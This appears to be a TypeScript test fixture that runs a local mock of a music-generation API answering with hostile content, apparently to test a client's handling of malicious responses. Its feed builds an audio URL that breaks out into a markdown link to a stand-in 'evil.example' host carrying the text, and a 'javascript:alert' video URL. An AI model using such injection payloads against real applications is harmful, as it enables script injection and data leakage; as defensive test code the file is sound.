import { createServer, type ServerResponse } from "node:http";
import { listenAt, stop } from "../local-server.ts";

/** What the service says in place of decent words; `song` finishes with them, `failed` fails with them, `refused` takes nothing. */
type Spite = {
	readonly how: "song" | "failed" | "refused";
	readonly text: string;
	/** Answers this status to everything. */
	readonly status?: number;
};

export type HostileService = {
	readonly url: string;
	/** Requests so far by `<method> <path>`. */
	readonly asked: Readonly<Record<string, number>>;
	/** From now on, for what is submitted from now on. */
	spite(spite: Spite): void;
	close(): Promise<void>;
};

/** A real server of the V2 interface that means no good: every text it sends is the given one. Its files are real. */
export async function openHostileService(song: Uint8Array): Promise<HostileService> {
	const asked: Record<string, number> = {};
	const tasks: Spite[] = [];
	let current: Spite = { how: "song", text: "" };
	let url = "";

	const send = (response: ServerResponse, status: number, body: unknown) =>
		response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));

	function feed(at: number): unknown {
		const { how, text } = tasks[at] ?? current;
		const item = {
			id: text,
			status: how === "failed" ? "error" : "complete",
			audio_url: `${url}/files/a.mp3)[click](http://evil.example?${encodeURIComponent(text.toWellFormed())}`,
			image_url: text,
			video_url: `javascript:alert("${text}")`,
			title: text,
			prompt: `${text}\n${text}`,
			tags: text,
			model_name: text,
			duration: 4,
			error_message: how === "failed" ? text : "",
		};
		return {
			code: 200,
			message: text,
			data: { type: how === "failed" ? "FAILED" : "SUCCESS", request_body: text, response_data: [item, item] },
		};
	}

	const server = createServer((request, response) => {
		request.resume();
		const { pathname, searchParams } = new URL(request.url ?? "/", "http://here");
		const name = `${request.method} ${pathname.replace(/^\/files\/.*/s, "/files")}`;
		asked[name] = (asked[name] ?? 0) + 1;
		if (current.status !== undefined && !pathname.startsWith("/files"))
			return send(response, current.status, { code: current.status, message: current.text, data: null });
		if (pathname === "/api/v2/generate") {
			if (current.how === "refused")
				return send(response, 400, { code: 400, message: current.text, detail: current.text, data: null });
			const workId = `task-${tasks.push(current) - 1}`;
			return send(response, 200, { code: 200, message: current.text, workId, data: { task_id: workId } });
		}
		if (pathname === "/api/v2/feed")
			return send(response, 200, feed(Number(searchParams.get("workId")?.replace("task-", ""))));
		if (pathname.startsWith("/files/")) return response.end(song);
		return send(response, 404, { code: 404, message: current.text, data: null });
	});
	url = await listenAt(server);
	return {
		url,
		asked,
		spite(spite) {
			current = spite;
		},
		close: () => stop(server),
	};
}
